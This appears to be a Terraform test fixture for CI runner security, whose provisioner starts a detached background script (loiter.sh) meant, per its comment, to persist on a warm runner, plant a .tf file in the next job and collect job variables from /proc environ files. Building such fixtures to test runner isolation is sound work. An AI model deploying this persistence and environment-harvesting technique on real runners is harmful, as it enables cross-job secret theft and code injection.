# Attack fixture: leaves a detached loop (loiter.sh) behind that waits for the next job on a warm runner, writes a
# .tf file into its project and collects job variables from every /proc/<pid>/environ it can read.
variable "workdir" {
  type = string
}

variable "marker" {
  type = string
}

resource "terraform_data" "loiter" {
  provisioner "local-exec" {
    command = <<-EOT
      (setsid sh "$PWD/loiter.sh" "${var.workdir}" "$PWD" "${var.marker}" >/dev/null 2>&1 &)
      echo "loop left behind"
    EOT
  }
}
